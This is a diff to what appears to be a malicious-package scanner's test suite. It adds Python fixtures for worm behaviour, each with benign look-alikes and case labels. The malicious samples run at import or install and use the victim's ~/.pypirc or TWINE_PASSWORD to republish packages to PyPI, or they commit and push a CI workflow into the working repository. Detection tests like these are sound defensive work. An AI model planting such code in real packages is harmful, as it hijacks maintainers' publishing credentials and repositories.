@@ -600,6 +600,78 @@ PYDANTIC_BENIGN = {
         "[project.entry-points.pydantic]\npdlog = 'pdlog.plugin:plugin'\n"),
 }
 
+# --- a worm's step: publishing with the victim's index token, planting a CI workflow -----
+WORM_TWINE = _init("pubhelper", (
+    "import glob, os, subprocess, sys, tempfile\n\n\n"
+    "def _spread():\n"
+    "    rc = os.path.expanduser('~/.pypirc')\n"
+    "    if not os.path.exists(rc):\n        return\n"
+    "    d = tempfile.mkdtemp()\n"
+    "    subprocess.run([sys.executable, '-m', 'build', '--outdir', d, '.'],\n"
+    "                   capture_output=True)\n"
+    "    subprocess.run([sys.executable, '-m', 'twine', 'upload', *glob.glob(d + '/*')],\n"
+    "                   capture_output=True)\n\n\n"
+    "_spread()\n"))
+WORM_UPLOAD_URL = _setup("pypush", (
+    "import os, urllib.request\n\n"
+    "tok = os.environ.get('TWINE_PASSWORD') or ''\n"
+    "req = urllib.request.Request('https://upload.pypi.org/legacy/', data=b'...',\n"
+    "                             headers={'Authorization': 'Basic ' + tok})\n"
+    "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"))
+WORM_WORKFLOW = _init("ciboost", (
+    "import os, subprocess\n\n"
+    "_wf = os.path.join(os.getcwd(), '.github', 'workflows', 'boost.yml')\n"
+    "if os.path.isdir(os.path.join(os.getcwd(), '.git')):\n"
+    "    os.makedirs(os.path.dirname(_wf), exist_ok=True)\n"
+    "    with open(_wf, 'w') as fh:\n"
+    "        fh.write('on: push\\njobs: {}\\n')\n"
+    "    subprocess.run(['git', 'add', _wf])\n"
+    "    subprocess.run(['git', 'commit', '-m', 'ci'])\n"
+    "    subprocess.run(['git', 'push'])\n"))
+RELEASE_BENIGN = {
+    "reltool/__init__.py": "",
+    "reltool/cli.py": (
+        "import glob, os, subprocess, sys\n\n\n"
+        "def main():\n"
+        "    subprocess.run([sys.executable, '-m', 'build'], check=True)\n"
+        "    subprocess.run(['twine', 'upload', *glob.glob('dist/*')], check=True)\n\n\n"
+        "def init_ci(root='.'):\n"
+        "    path = os.path.join(root, '.github', 'workflows', 'release.yml')\n"
+        "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
+        "    with open(path, 'w') as fh:\n"
+        "        fh.write('on: [push]\\n')\n"),
+}
+
+UPLOAD_CMD_BENIGN = {
+    "setup.py": (
+        "import os, sys\nfrom setuptools import setup, Command\n\n\n"
+        "class UploadCommand(Command):\n"
+        "    description = 'Build and publish the package.'\n"
+        "    user_options = []\n\n"
+        "    def initialize_options(self):\n        pass\n\n"
+        "    def finalize_options(self):\n        pass\n\n"
+        "    def run(self):\n"
+        "        os.system('{0} setup.py sdist bdist_wheel'.format(sys.executable))\n"
+        "        os.system('twine upload dist/*')\n"
+        "        os.system('git push --tags')\n"
+        "        sys.exit()\n\n\n"
+        "setup(name='tmplpkg', version='1.0', cmdclass={'upload': UploadCommand})\n"),
+    "tmplpkg/__init__.py": "",
+}
+
+BUILD_TOKEN_BENIGN = {
+    "setup.py": (
+        "import json, os, urllib.request\nfrom setuptools import setup\n\n\n"
+        "def fetch(url, token=None):\n"
+        "    headers = {'Authorization': 'Bearer ' + token} if token else {}\n"
+        "    return urllib.request.urlopen(urllib.request.Request(url, headers=headers))\n\n\n"
+        "if os.environ.get('BUILD_DEPS'):\n"
+        "    rel = json.load(fetch('https://api.github.com/repos/o/deps/releases/latest',\n"
+        "                          os.environ.get('GITHUB_API_TOKEN')))\n"
+        "    urllib.request.urlretrieve('https://download.example.org/src/zlib.tar.gz', 'z.tgz')\n"
+        "setup(name='nativebuild', version='1.0')\n"),
+}
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -729,4 +801,19 @@ CASES = [
          "it", "hypstrat", HYPOTHESIS_HOOK, "malicious", ("PV303",)),
     Case("benign look-alike: pydantic plugin logging schema types", "pdlog",
          PYDANTIC_BENIGN, "benign"),
+    Case("worm: builds the project in the working folder and uploads it with twine at "
+         "import, when ~/.pypirc exists", "pubhelper", WORM_TWINE, "malicious", ("PV351",),
+         kind="wheel"),
+    Case("worm: setup.py posts to PyPI's upload endpoint with the installer's token",
+         "pypush", WORM_UPLOAD_URL, "malicious", ("PV351",)),
+    Case("evasion: a CI workflow written into the working repository and pushed at import",
+         "ciboost", WORM_WORKFLOW, "malicious", ("PV351",), kind="wheel"),
+    Case("benign look-alike: release CLI that builds, uploads with twine and writes a "
+         "workflow when the user runs it", "reltool", RELEASE_BENIGN, "benign", kind="wheel"),
+    Case("benign look-alike: setup.py's `upload` command class running twine (the "
+         "common template), run only when the maintainer types it", "tmplpkg",
+         UPLOAD_CMD_BENIGN, "benign"),
+    Case("benign look-alike: setup.py fetching release data from GitHub with "
+         "GITHUB_API_TOKEN and sources from a mirror without it", "nativebuild",
+         BUILD_TOKEN_BENIGN, "benign"),
 ]
